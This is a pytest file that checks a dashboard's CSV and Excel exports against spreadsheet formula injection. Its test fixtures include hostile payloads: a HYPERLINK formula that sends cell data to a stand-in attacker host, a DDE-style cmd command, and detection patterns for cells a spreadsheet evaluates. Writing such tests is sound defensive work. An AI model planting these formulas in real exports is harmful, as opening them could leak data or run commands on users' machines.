"""Downloads are safe to open in a spreadsheet whatever the labels hold: formula-like text, line breaks, control
characters and oversized fields, exported and read back as a spreadsheet would. Negative numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
from openpyxl import load_workbook

from dashboards import export

PROJECT = Path(__file__).resolve().parents[2]
TIEN_MB = "x" * (10 << 20)
HOSTILE = [
    '=HYPERLINK("http://aanvaller.example/?d="&A1,"klik")',
    "+31 6 1234",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
    'Zorg BV\r=HYPERLINK("http://x")',  # a bare carriage return must not start a new row
    "Zorg\r\n=cmd|' /C calc'!A0",
    "a\x00b",
    "\x1b[31mrood\x1b[0m",
    "Zorg BV",
]
TABLE = pd.DataFrame(
    {
        "aanbieder": HOSTILE,
        "=kolom": pd.Categorical(HOSTILE),  # a hostile column name, and a categorical column
        "aantal": range(-7, len(HOSTILE) - 7),  # negative numbers stored as numbers
        "bedrag": [-1234.5] * len(HOSTILE),
    }
)
# What a spreadsheet evaluates: a cell starting with one of these, possibly after white space.
_EVALUATED = re.compile(r"^(?:\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n])")
_CONTROL = re.compile(r"[\x00-\x08\x0a-\x1f\x7f]")  # a tab may stay: only a leading one starts a formula


def _safe(cell: str) -> bool:
    return not _EVALUATED.match(cell) and not _CONTROL.search(cell)


def _read_csv(data: bytes) -> list[list[str]]:
    """The CSV as a spreadsheet reads it: a line break outside quotes ends a row, a bare CR included."""
    text = data.decode("utf-8-sig")
    limit = csv.field_size_limit(1 << 30)  # the ten-megabyte label
    try:
        return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    finally:
        csv.field_size_limit(limit)


def test_csv_export_of_hostile_labels_reads_back_safe():
    rows = _read_csv(export.als_csv(TABLE))
    assert len(rows) == len(HOSTILE) + 1 and all(len(row) == 4 for row in rows)
    header, *body = rows
    assert header == ["aanbieder", "'=kolom", "aantal", "bedrag"]
    for row, original in zip(body, HOSTILE, strict=True):
        assert _safe(row[0]) and _safe(row[1]), row[0][:40]
        # Nothing but the apostrophe, line breaks (a space) and control characters (dropped) is changed.
        assert row[0].removeprefix("'") == _CONTROL.sub("", re.sub(r"\r\n|[\r\n]", " ", original))
    assert [row[2] for row in body] == [str(n) for n in range(-7, len(HOSTILE) - 7)]
    assert {row[3] for row in body} == {"-1234,5"}


def test_a_bare_carriage_return_cannot_start_a_row_with_a_formula():
    data = export.als_csv(pd.DataFrame({"naam": ["Zorg BV\r=1+1", "\n@SUM(A1)"], "n": [1, 2]}))
    # Split as a spreadsheet that honours quotes does, and as one that splits at every line break: neither finds
    # a row that starts with a formula.
    lines = re.split(rb"\r\n|\r|\n", data.removeprefix(b"\xef\xbb\xbf"))
    assert len(lines) == 4 and lines[-1] == b""  # header, two rows, the final line end
    assert not any(_EVALUATED.match(line.decode()) for line in lines)
    assert _read_csv(data)[1:] == [["Zorg BV =1+1", "1"], ["' @SUM(A1)", "2"]]


def test_excel_export_of_hostile_labels_reads_back_safe():
    sheet = load_workbook(io.BytesIO(export.als_excel(TABLE))).active
    rows = list(sheet.iter_rows())
    assert len(rows) == len(HOSTILE) + 1
    assert all(cell.data_type != "f" for row in rows for cell in row)  # no formula anywhere
    assert [c.value for c in rows[0]] == ["aanbieder", "'=kolom", "aantal", "bedrag"]
    for row in rows[1:]:
        for cell in row[:2]:
            assert cell.data_type == "s" and _safe(cell.value) and "_x00" not in cell.value, cell.value[:40]
    # Negative numbers are numbers, not text with an apostrophe.
    assert [(r[2].data_type, r[2].value) for r in rows[1:3]] == [("n", -7), ("n", -6)]
    assert {(r[3].data_type, r[3].value) for r in rows[1:]} == {("n", -1234.5)}


def test_a_ten_megabyte_label_is_cut_visibly_in_excel_and_whole_in_csv():
    table = pd.DataFrame({"aanbieder": ["Zorg BV", "=" + TIEN_MB], "aantal": [-1, 2]})
    sheet = load_workbook(io.BytesIO(export.als_excel(table))).active
    cell = sheet.cell(row=3, column=1).value
    assert len(cell) == export.EXCEL_MAX_TEKST and cell.startswith("'=x") and cell.endswith("…")
    assert _read_csv(export.als_csv(table))[2] == ["'=" + TIEN_MB, "2"]


def test_every_csv_or_excel_export_goes_through_the_neutraliser():
    """A new download that writes CSV or Excel itself would skip the neutraliser: there is none outside export.py."""
    writers = re.compile(r"\.to_csv\(|\.to_excel\(|xlsxwriter|openpyxl|csv\.writer|DictWriter")
    found = [
        f"{path.relative_to(PROJECT)}:{number}"
        for folder in ("dashboards", "reports")
        for path in (PROJECT / folder).rglob("*.py")
        if path.name != "export.py"
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if writers.search(line)
    ]
    assert found == []
